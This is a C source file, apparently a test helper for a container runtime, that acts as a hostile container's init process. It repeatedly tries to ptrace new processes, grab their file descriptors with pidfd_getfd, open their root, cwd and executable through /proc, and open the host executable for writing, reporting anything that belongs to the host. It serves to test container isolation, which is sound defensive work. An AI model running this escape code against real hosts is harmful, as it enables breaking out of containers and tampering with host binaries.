/* SPDX-License-Identifier: Apache-2.0 */
/*
 * stealer [OWN…]: the first process of a hostile container. Looks for processes that were not
 * there when it began, for ever, and tries on each to ptrace it, to take its descriptors
 * (pidfd_getfd), to open its root, working directory and executable through /proc. Prints a line
 * for each descriptor or file that it got and that is not the container's, and "ready" first.
 *
 * What belongs to the container is told by its device numbers: those of "/", "/proc", "/dev",
 * pipes and terminals are harmless.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static dev_t known[32];
static size_t known_count;

static void learn(const char *path)
{
	struct stat st;

	if (stat(path, &st) == 0 && known_count < sizeof(known) / sizeof(known[0]))
		known[known_count++] = st.st_dev;
}

static bool is_foreign(int fd)
{
	struct stat st;

	if (fstat(fd, &st) < 0)
		return false;
	if (!S_ISDIR(st.st_mode) && !S_ISREG(st.st_mode) && !S_ISBLK(st.st_mode))
		return false;
	for (size_t i = 0; i < known_count; i++)
		if (known[i] == st.st_dev)
			return false;
	return true;
}

static void report(const char *how, pid_t pid, int number, int fd)
{
	char link[64], target[256];
	ssize_t n;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	n = readlink(link, target, sizeof(target) - 1);
	target[n < 0 ? 0 : n] = '\0';
	printf("STOLEN %s pid %d fd %d: %s\n", how, (int)pid, number, target);
	fflush(stdout);
}

static void take_descriptors(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	if (pidfd < 0)
		return;
	for (int number = 0; number < 64; number++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);

		if (fd < 0)
			continue;
		if (is_foreign(fd))
			report("pidfd_getfd", pid, number, fd);
		close(fd);
	}
	close(pidfd);
}

static void open_links(pid_t pid)
{
	static const char *const names[] = {"root", "cwd", "exe"};
	char path[64];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, names[i]);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (is_foreign(fd))
			report(names[i], pid, -1, fd);
		/* Through an executable of the host it could be rewritten. */
		if (i == 2) {
			int w = open(path, O_WRONLY | O_CLOEXEC);

			if (w >= 0 && is_foreign(w))
				report("writable exe", pid, -1, w);
			if (w >= 0)
				close(w);
		}
		close(fd);
	}
}

static void trace(pid_t pid)
{
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	/* Before its exec it is still the runtime; its executable tells. */
	open_links(pid);
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	take_descriptors(pid);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

int main(void)
{
	pid_t self = getpid();
	DIR *proc = opendir("/proc");

	if (!proc) {
		perror("/proc");
		return 1;
	}
	learn("/");
	learn("/proc");
	learn("/dev");
	learn("/dev/shm");
	learn("/dev/pts");
	learn("/sys");
	signal(SIGCHLD, SIG_DFL);
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		struct dirent *entry;

		rewinddir(proc);
		while ((entry = readdir(proc))) {
			pid_t pid = (pid_t)atoi(entry->d_name);

			if (pid <= 0 || pid == self)
				continue;
			open_links(pid);
			take_descriptors(pid);
			trace(pid);
		}
		/* Orphans of the container become ours. */
		while (waitpid(-1, NULL, WNOHANG) > 0)
			continue;
	}
}
